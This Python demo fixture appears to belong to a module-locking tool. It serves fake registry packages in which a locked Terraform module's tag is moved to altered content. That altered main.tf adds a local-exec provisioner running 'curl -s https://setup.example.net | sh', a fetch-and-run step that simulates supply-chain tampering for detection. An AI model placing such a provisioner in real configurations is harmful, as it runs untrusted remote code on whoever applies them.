"""Modules for the screenshots: a configuration beside the demo's lock file, one of whose modules has moved.

The packages lie in an OCI registry that is a value, as the demo's servers are.
"""

from __future__ import annotations

import hashlib
import io
import json
import zipfile
from collections.abc import Mapping
from pathlib import Path
from typing import Final

from lockwarden.demo.world import Response, Site

HOST: Final = "registry.example.test"
_MANIFEST: Final = "application/vnd.oci.image.manifest.v1+json"
_NETWORK: Final = {
    "main.tf": b'resource "example_network" "main" {\n  range = var.range\n}\n',
    "variables.tf": b'variable "range" {\n  type = string\n}\n',
    "LICENSE": b"MIT\n",
}
_MOVED: Final = _NETWORK | {
    "main.tf": _NETWORK["main.tf"] + b'\nresource "null_resource" "setup" {\n  provisioner "local-exec" {\n'
    b'    command = "curl -s https://setup.example.net | sh"\n  }\n}\n',
}
_MAIN: Final = f"""\
module "network" {{
  source = "oci://{HOST}/modules/network?tag=1.2.0"
}}

module "cluster" {{
  source = "oci://{HOST}/modules/cluster//blue?tag=2.0.1"
}}

module "names" {{
  source = "./names"
}}

module "buckets" {{
  source = "s3::https://s3.amazonaws.com/example/buckets.zip"
}}

module "dashboards" {{
  source = "git::https://git.example.test/dashboards.git?ref={"3f" * 20}"
}}
"""


def _zipped(files: Mapping[str, bytes]) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        for name, content in files.items():
            archive.writestr(zipfile.ZipInfo(name), content)
    return packed.getvalue()


def _digest(body: bytes) -> str:
    return f"sha256:{hashlib.sha256(body).hexdigest()}"


def _package(repository: str, files: Mapping[str, bytes], *tags: str) -> tuple[str, dict[str, Response]]:
    """The digest of a package's manifest, and what the registry answers."""
    layer, empty = _zipped(files), b"{}"
    manifest = json.dumps(
        {
            "schemaVersion": 2,
            "mediaType": _MANIFEST,
            "artifactType": "application/vnd.opentofu.modulepkg",
            "config": {
                "mediaType": "application/vnd.oci.empty.v1+json",
                "digest": _digest(empty),
                "size": len(empty),
            },
            "layers": [{"mediaType": "archive/zip", "digest": _digest(layer), "size": len(layer)}],
        }
    ).encode()
    digest = _digest(manifest)
    answer = Response(headers=(("Content-Type", _MANIFEST), ("Docker-Content-Digest", digest)), body=manifest)
    below = f"/v2/{repository}"
    answers = {f"{below}/manifests/{each}": answer for each in (digest, *tags)}
    return digest, answers | {f"{below}/blobs/{_digest(layer)}": Response.of_bytes(layer)}


def moved_modules(folder: Path) -> Site:
    """Write a configuration and its module lock into a folder; what the registry answers."""
    accepted, before = _package("modules/network", _NETWORK)
    _, after = _package("modules/network", _MOVED, "1.2.0")
    cluster, others = _package("modules/cluster", {"blue/main.tf": b"# blue\n"}, "2.0.1")
    (folder / "names").mkdir()
    (folder / "names" / "main.tf").touch()
    (folder / "main.tf").write_text(_MAIN, encoding="utf-8")
    (folder / ".lockwarden").mkdir(exist_ok=True)
    entries = (("network?tag=1.2.0", accepted), ("cluster//blue?tag=2.0.1", cluster))
    (folder / ".lockwarden" / "modules.hcl").write_text(
        "\n".join(
            f'module "oci://{HOST}/modules/{name}" {{\n  revision = "{revision}"\n'
            '  by       = "Ada Example <ada@example.test>"\n  at       = "2026-11-02T09:30:00Z"\n}\n'
            for name, revision in entries
        ),
        encoding="utf-8",
    )
    return before | after | others
